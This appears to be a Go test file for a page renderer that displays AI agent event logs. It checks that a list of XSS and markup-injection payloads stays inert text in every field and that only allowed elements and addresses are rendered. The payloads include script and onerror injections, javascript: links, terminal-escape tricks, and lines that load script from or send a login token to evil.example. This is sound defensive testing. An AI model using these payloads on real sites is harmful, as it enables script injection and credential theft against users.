package page_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"jrweb/eventlog"
	"jrweb/router/page"
)

// attacks try to become markup, a script, a style or a foreign address, each in
// the place where its author hopes to stand.
var attacks = []string{
	hostile,
	`<script>alert(1)</script>`,
	`</li></ol></main><script src=//evil.example/x.js></script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg/onload=alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<style>*{display:none}</style><link rel=stylesheet href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<form action=//evil.example><input name=token><button>Log in</button></form>`,
	`<base href=//evil.example/>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"<!--><img src=x onerror=alert(1)>-->",
	"<!-- x --!><script>alert(1)</script>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?php echo 1 ?><script>alert(1)</script>",
	`[x](javascript:alert(1))`,
	"[x](java\tscript:alert(1))",
	`[x](&#106;avascript:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example/x) [w](/login) [v](mailto:a@b.c)`,
	`[x](https://a.example/" onmouseover="alert(1))`,
	`[x](https://a.example/'onmouseover='alert(1) "title\" onclick=alert(1)")`,
	`[x](<https://a.example/><script>alert(1)</script>)`,
	`![x](https://evil.example/pixel.gif) ![](https://evil.example/pixel.gif "t")`,
	`[![x](https://evil.example/a.gif)](javascript:alert(1))`,
	`<javascript:alert(1)> <https://a.example/"onclick=alert(1)>`,
	"[x]: javascript:alert(1)\n\n[x] and ![x]",
	`www.evil.example"onclick=alert(1) https://a.example/<script>alert(1)</script>`,
	"```html\n<script>alert(1)</script>\n```",
	"```\"><script>alert(1)</script>\ncode\n```",
	"```js\" onclick=\"alert(1)\n`${alert(1)}`\n```",
	"~~~ <img src=x onerror=alert(1)>\n~~~",
	"    <script>alert(1)</script>",
	"`<script>alert(1)</script>`",
	"# <img src=x onerror=alert(1)> {#id onclick=alert(1)}",
	"| <script> | b |\n|:---|---:|\n| <img src=x onerror=alert(1)> | `|` |",
	"- [ ] <input onfocus=alert(1) autofocus>\n- [x] a",
	`&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;`,
	"\\<script>alert(1)\\</script>",
	"a\x00b<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b[31m<script>alert(1)</script>\x1b[0m",
	"\x1b]1337;File=inline=1:PHNjcmlwdD4=\x07 \x1b]1338;url='x' onerror='alert(1)'\x07",
	"\x1b[38;5;\"><script>alert(1)</script>m \x1b[<script>m",
	"\r<script>\b\b\b\b\balert(1)\r\n</script>",
	"\u202ealert\u2066 \ufeff\u200b\u2028<script>\u2029",
	`{{.}} {{template "x"}} ${alert(1)} <%= 1 %>`,
	"\"};alert(1);//\n'-alert(1)-'",
	"]]>\n<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
	"\ndata: <script>\n\nid: 1:1\nevent: reset\n\n",
	"\xc3\x28 \xed\xa0\x80",
}

// allowed are the elements that a row may be made of, and their attributes beside
// those that any element may have.
var (
	allowedEverywhere = []string{"class", "id", "tabindex", "role", "aria-hidden", "aria-label", "title", "dir"}
	allowed           = map[string][]string{
		"li": {"hidden"}, "div": nil, "p": nil, "span": nil, "ol": {"start"}, "ul": nil, "dl": nil, "dt": nil, "dd": nil,
		"pre": nil, "code": nil, "bdi": nil, "strong": nil, "em": nil, "del": nil, "br": nil, "hr": nil, "blockquote": nil,
		"table": nil, "tbody": nil, "tr": nil, "td": {"align"}, "th": {"align"},
		"details": {"open"}, "summary": nil, "time": {"datetime"}, "a": {"href", "rel", "target"},
		"button": {"type", "data-value", "disabled"},
		"img":    {"src", "alt", "width", "height", "loading", "decoding"},
	}
)

// blobAddress is where an image may come from.
var blobAddress = regexp.MustCompile(`^\./t-1/sessions/[0-9A-V]{26}/blobs/[0-9a-f]{64}\?sequence=[0-9]+$`)

// checkMarkup complains about everything in a document fragment that is not one of
// the elements that rows are made of.
func checkMarkup(t testing.TB, fragment string) (root *html.Node) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "ol", DataAtom: atom.Ol})
	if err != nil {
		t.Fatal(err)
	}
	if len(nodes) != 1 || nodes[0].Data != "li" {
		t.Errorf("not one list item but %d nodes: %.2000s", len(nodes), fragment)
		return nil
	}
	checkNode(t, nodes[0], fragment)
	return nodes[0]
}

func checkNode(t testing.TB, node *html.Node, source string) {
	t.Helper()
	for n := range node.Descendants() {
		checkElement(t, n, source)
	}
	checkElement(t, node, source)
}

func checkElement(t testing.TB, n *html.Node, source string) {
	t.Helper()
	switch n.Type {
	case html.TextNode:
		return
	case html.ElementNode:
	default:
		t.Errorf("a node that is neither element nor text: %q in %.2000s", n.Data, source)
		return
	}
	attributes, known := allowed[n.Data]
	if !known || n.Namespace != "" {
		t.Errorf("element %s %s in %.2000s", n.Namespace, n.Data, source)
		return
	}
	rel := ""
	if n.Data == "img" && !slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "src" }) {
		t.Errorf("an image from nowhere in %.2000s", source)
	}
	for _, a := range n.Attr {
		data, isData := strings.CutPrefix(a.Key, "data-")
		switch {
		case isData && strings.Trim(data, "abcdefghijklmnopqrstuvwxyz") == "":
		case slices.Contains(attributes, a.Key), slices.Contains(allowedEverywhere, a.Key):
		default:
			t.Errorf("attribute %s=%q of %s in %.2000s", a.Key, a.Val, n.Data, source)
		}
		if a.Key == "rel" {
			rel = a.Val
		}
	}
	for _, a := range n.Attr {
		if a.Key != "href" && a.Key != "src" {
			continue
		}
		if blobAddress.MatchString(a.Val) {
			continue
		}
		if n.Data == "img" {
			t.Errorf("an image from %q", a.Val)
		}
		u, err := url.Parse(a.Val)
		switch {
		case err != nil:
			t.Errorf("address %q: %v", a.Val, err)
		case (u.Scheme == "http" || u.Scheme == "https") && u.Host != "":
			if rel != "noopener noreferrer nofollow" {
				t.Errorf("a link to %q has rel=%q", a.Val, rel)
			}
		case u.Scheme != "" || u.Host != "" || strings.HasPrefix(a.Val, "/") || strings.HasPrefix(a.Val, `\`):
			t.Errorf("address %q in %.2000s", a.Val, source)
		case !strings.HasPrefix(a.Val, "?session") && !strings.HasPrefix(a.Val, "./t-1/events?") && !strings.HasPrefix(a.Val, "#"):
			t.Errorf("an address that is not one of ours: %q", a.Val)
		}
	}
}

// hostileEvents are events of every type that have text in every place.
func hostileEvents(t testing.TB, text string) []eventlog.Event {
	q := quote(t, text)
	picture := fmt.Sprintf(`{"content":"x","parts":[{"type":"image","media_type":%s,"bytes":1,"sha256":%s,"data":%s},`+
		`{"type":"image","media_type":"image/png","bytes":1,"sha256":%s,"data":%s},{"type":%s,%s:%s}]}`, q, q, q, q, quote(t, imageData), q, q, q)
	data := map[string][]string{
		"assistant": {fmt.Sprintf(`{"content":%s,%s:%s,"parent_call_id":%s}`, q, q, q, q)},
		"thought":   {fmt.Sprintf(`{"content":%s,%s:%s}`, q, q, q)},
		"user":      {fmt.Sprintf(`{"content":%s,"parent_tool_use_id":%s}`, q, q), picture},
		"comment":   {fmt.Sprintf(`{"content":%s}`, q)},
		"status": {
			fmt.Sprintf(`{"content":%s,"x":[%s,{%s:%s}]}`, q, q, q, q),
			fmt.Sprintf(`{"content":"Plan","plan":[{"step":%s,"status":"completed"}],"withdraws":[{"type":%s,"content":%s}]}`, q, q, q),
		},
		"checkpoint": {fmt.Sprintf(`{"content":%s}`, q)},
		"guardrail":  {fmt.Sprintf(`{"content":%s}`, q)},
		"error":      {fmt.Sprintf(`{"message":%s,"code":%s,"fatal":%s,%s:1}`, q, q, q, q), fmt.Sprintf(`{"message":%s,"code":{%s:%s},"fatal":true}`, q, q, q)},
		"complete":   {fmt.Sprintf(`{"status":%s,"reason":%s,%s:%s}`, q, q, q, q)},
		"cost":       {fmt.Sprintf(`{"usd":1,"model":%s,"scope":%s,%s:%s}`, q, q, q, q), fmt.Sprintf(`{"usd":%s,"input_tokens":%s}`, q, q)},
		"tool_call": {
			fmt.Sprintf(`{"tool":%s,"args":{"command":%s},"call_id":%s,"parent_call_id":%s,%s:%s}`, q, q, q, q, q, q),
			fmt.Sprintf(`{"tool":%s,"args":{"command":[%s,%s]}}`, q, q, q),
			fmt.Sprintf(`{"tool":%s,"args":{"path":%s,"old_str":%s,"new_str":%s}}`, q, q, q, quote(t, text+"\n"+text)),
			fmt.Sprintf(`{"tool":%s,"args":{"path":%s,"edits":[{"old_string":%s,"new_string":""},%s,{"diff":%s}]}}`, q, q, q, q, q),
			fmt.Sprintf(`{"tool":%s,"args":{"patch":%s}}`, q, quote(t, "--- a\n+++ b\n@@ "+text+" @@\n-"+text+"\n+"+text)),
			fmt.Sprintf(`{"tool":%s,"args":{"file_path":"a.html","content":%s}}`, q, quote(t, text+"\n"+text)),
			fmt.Sprintf(`{"tool":%s,"args":{"file_path":"a.js","content":%s}}`, q, quote(t, text+"\n"+text)),
			fmt.Sprintf(`{"tool":%s,"args":{%s:{%s:[%s]}},"call_id":{%s:%s}}`, q, q, q, q, q, q),
			fmt.Sprintf(`{"tool":"TodoWrite","args":{"todos":[{"content":%s,"status":%s}]}}`, q, q),
			fmt.Sprintf(`{"tool":"ask","args":{"questions":[{"question":%s,"options":[{"label":%s,"description":%s}]}]}}`, q, q, q),
			fmt.Sprintf(`{"tool":%s,"args":{"pattern":%s,"path":%s,"glob":%s}}`, quote(t, "mcp__"+text+"__"+text), q, q, q),
		},
		"tool_result": {
			fmt.Sprintf(`{"tool":%s,"success":true,"output":%s,"call_id":%s,"duration_ms":%s,%s:%s}`, q, q, q, q, q, q),
			fmt.Sprintf(`{"tool":%s,"success":false,"output":%s}`, q, quote(t, "{"+q+":["+q+"]}")),
		},
		"question": {
			fmt.Sprintf(`{"content":%s,"options":[{"value":%s,"label":%s,"description":%s},{"value":%s}],"other":%s,"call_id":%s,%s:%s}`, q, q, q, q, q, q, q, q, q),
			fmt.Sprintf(`{"content":%s,"options":{%s:%s}}`, q, q, q),
		},
		"answer":   {fmt.Sprintf(`{"for":%s,"value":%s,"author":%s}`, q, q, q)},
		"receipt":  {fmt.Sprintf(`{"for":%s,"state":%s,"reason":%s}`, q, q, q)},
		"session":  {fmt.Sprintf(`{"agent":%s,"model":%s,"cwd":%s,"title":%s}`, q, q, q, q), fmt.Sprintf(`{"title":%s,%s:%s}`, q, q, q)},
		"raw":      {fmt.Sprintf(`{"content":%s,"format":%s,"reason":%s}`, q, q, q)},
		"anything": {fmt.Sprintf(`{"content":%s,%s:%s}`, q, q, q), fmt.Sprintf(`{%s:[{%s:%s}]}`, q, q, q)},
	}
	var events []eventlog.Event
	for kind, all := range data {
		for _, one := range all {
			if !json.Valid([]byte(one)) {
				t.Fatalf("the test itself is wrong: %s", one)
			}
			events = append(events, event(uint64(len(events)+1), kind, eventlog.Agent, one))
		}
	}
	return events
}

func TestHostileTextsInEveryPlaceOfEveryTypeStayText(t *testing.T) {
	for _, attack := range attacks {
		for _, e := range hostileEvents(t, attack) {
			li := checkMarkup(t, rendered(t, e))
			if li == nil {
				continue
			}
			if got := attribute(li, "data-seq"); got != fmt.Sprint(e.Sequence) {
				t.Errorf("%s of %q: data-seq is %q", e.Type, attack, got)
			}
		}
	}
}

// Where no Markdown is expected, the text is there to the letter.
func TestHostileTextsAreShown(t *testing.T) {
	for _, attack := range attacks {
		if strings.ContainsAny(attack, "\x00\x1b\r\b") || !utf8.ValidString(attack) {
			continue
		}
		got := rendered(t, event(1, "status", "agent", `{"content":`+quote(t, attack)+`}`))
		if li := checkMarkup(t, got); li != nil && !strings.Contains(textIn(li), attack) {
			t.Errorf("%q is not in %q", attack, textIn(li))
		}
	}
}

// The control: what the check is for, it finds.
func TestCheckOfMarkupFindsWhatIsForbidden(t *testing.T) {
	for _, bad := range []string{
		`<li><script>1</script></li>`, `<li onclick="x"></li>`, `<li style="x"></li>`, `<li><img></li>`, `<li><img src="https://a.example/x.png"></li>`, `<li><img src="data:image/png;base64,AA=="></li>`, `<li><img src="./t-1/events?x"></li>`, `<li><img src="x" onerror="alert(1)"></li>`, `<li><!-- x --></li>`,
		`<li><a href="javascript:x">x</a></li>`, `<li><a href="https://a.example" rel="nofollow">x</a></li>`, `<li><a href="//a.example">x</a></li>`,
		`<li><svg></svg></li>`, `<li></li><li></li>`, `<li><a href="other">x</a></li>`, `<li data-x="" xmlns:x="y"></li>`,
	} {
		r := &counter{TB: t}
		checkMarkup(r, bad)
		if r.errors == 0 {
			t.Errorf("%s passes", bad)
		}
	}
}

type counter struct {
	testing.TB
	errors int
}

func (c *counter) Errorf(string, ...any) { c.errors++ }

func attribute(n *html.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

func textIn(node *html.Node) string {
	var b strings.Builder
	for n := range node.Descendants() {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
	}
	return b.String()
}

func FuzzAppendEvent(f *testing.F) {
	for _, row := range rows {
		f.Add(row.kind, row.data)
	}
	for _, attack := range attacks {
		f.Add("assistant", `{"content":`+quote(f, attack)+`}`)
		f.Add("tool_result", `{"tool":"x","success":true,"output":`+quote(f, attack)+`}`)
	}
	f.Fuzz(func(t *testing.T, kind, data string) {
		if !eventlog.ValidType(kind) || !json.Valid([]byte(data)) || !strings.HasPrefix(data, "{") {
			t.Skip() // the log takes no such event
		}
		checkMarkup(t, rendered(t, event(1, kind, eventlog.Agent, data)))
	})
}

func FuzzMarkdownHTML(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Add("1. a\n   > b\n   > ```go\n   > x\n\n***\n[a][b] ~~c~~ <b>\n\n[b]: https://x.example 't'\n\n| a |\n|--|\n| b |")
	f.Fuzz(func(t *testing.T, source string) {
		checkMarkup(t, "<li>"+page.MarkdownHTML(source)+"</li>")
	})
}

func FuzzTerminalHTML(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Add("\x1b[1;31;48;5;200mx\x1b[38;2;1;2;3my\x1b[0m\r\n\x1b[2Kz\x1b]0;title\x1b\\")
	f.Fuzz(func(t *testing.T, output string) {
		checkMarkup(t, "<li><pre>"+string(page.TerminalHTML(output))+"</pre></li>")
	})
}
